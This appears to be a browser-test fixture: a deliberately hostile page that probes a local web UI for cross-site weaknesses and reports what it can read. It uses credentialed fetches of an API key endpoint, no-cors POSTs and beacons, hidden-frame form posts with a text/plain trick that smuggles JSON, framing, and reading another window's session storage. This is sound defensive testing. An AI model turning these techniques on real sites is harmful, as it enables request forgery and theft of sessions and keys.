// A hostile page on another port of 127.0.0.1 (the same SITE as the UI,
// so the UI's SameSite=Strict cookie goes along with its requests). Served
// by the review 3 browser test's attacker server; it tries every way a
// page can reach the UI and reports what it could read to /report.
'use strict';
(async function () {
  const q = new URLSearchParams(location.search);
  const ui = q.get('ui');
  const changes = JSON.parse(q.get('changes'));
  const r = { steps: [] };
  const note = (k, v) => { r[k] = v; r.steps.push(k); };
  const wait = (ms) => new Promise((res) => setTimeout(res, ms));

  // 1. Read an API with the cookie (credentialed CORS): must be unreadable.
  try {
    const resp = await fetch(ui + '/api/keys', { credentials: 'include' });
    note('read_keys', 'READABLE ' + resp.status + ' ' + (await resp.text()).slice(0, 80));
  } catch (e) { note('read_keys', 'blocked'); }
  // 2. The page itself: holds no secret, and is unreadable anyway.
  try {
    const resp = await fetch(ui + '/', { credentials: 'include' });
    note('read_page', 'READABLE ' + resp.status);
  } catch (e) { note('read_page', 'blocked'); }
  // 3. JSON POST with a guessed secret (needs a preflight).
  try {
    await fetch(ui + '/api/keys', { method: 'POST', credentials: 'include',
      headers: { 'Content-Type': 'application/json', 'X-FLM-Session': 'guess' }, body: '{"label":"pwn-json"}' });
    note('json_post', 'SENT');
  } catch (e) { note('json_post', 'blocked'); }
  // 4. "Simple" requests to every state-changing endpoint: sent without a
  //    preflight, answer unreadable; the server must refuse them.
  for (const c of changes) {
    try {
      await fetch(ui + c.path, { method: 'POST', mode: 'no-cors', credentials: 'include',
        headers: { 'Content-Type': 'text/plain' }, body: c.body });
    } catch (e) { /* counted server side */ }
    try { navigator.sendBeacon(ui + c.path, c.body); } catch (e) { /* idem */ }
  }
  note('simple_posts', changes.length);
  // 5. HTML form posts, each encoding, into hidden frames.
  let forms = 0;
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    for (const c of changes) {
      const name = 'sink' + forms;
      const frame = document.createElement('iframe');
      frame.name = name; frame.hidden = true;
      document.body.append(frame);
      const form = document.createElement('form');
      form.method = 'POST'; form.action = ui + c.path; form.enctype = enctype; form.target = name;
      const input = document.createElement('input');
      // text/plain sends name=value: a JSON body with a throwaway field.
      input.name = c.body.slice(0, -1) + ',"x":"'; input.value = '"}';
      form.append(input);
      document.body.append(form);
      const loaded = new Promise((res) => { frame.addEventListener('load', res); setTimeout(res, 1500); });
      form.submit();
      await loaded;
      forms++;
    }
  }
  note('form_posts', forms);
  // 6. Frame the UI: X-Frame-Options / frame-ancestors must keep it out.
  const framed = document.createElement('iframe');
  framed.src = ui + '/';
  document.body.append(framed);
  await new Promise((res) => { framed.addEventListener('load', res); setTimeout(res, 2000); });
  try { note('frame', 'READABLE ' + framed.contentDocument.title); } catch (e) { note('frame', 'blocked'); }
  // 7. Open the UI in a window and reach into it.
  const w = window.open(ui + '/#status', 'flmui');
  await wait(1500);
  try { note('window', 'READABLE ' + w.sessionStorage.getItem('flm-ui-session')); } catch (e) { note('window', 'blocked'); }
  try { w.close(); } catch (e) { /* gone */ }
  // 8. An image from the API (the QR code): no session header, no image.
  const img = document.createElement('img');
  const imgDone = new Promise((res) => { img.onload = () => res('LOADED'); img.onerror = () => res('blocked'); setTimeout(() => res('timeout'), 2000); });
  img.src = ui + '/api/qr?proxy=proxy-1&which=lan';
  document.body.append(img);
  note('image', await imgDone);

  await fetch('/report', { method: 'POST', body: JSON.stringify(r) });
  window.__done = true;
})();
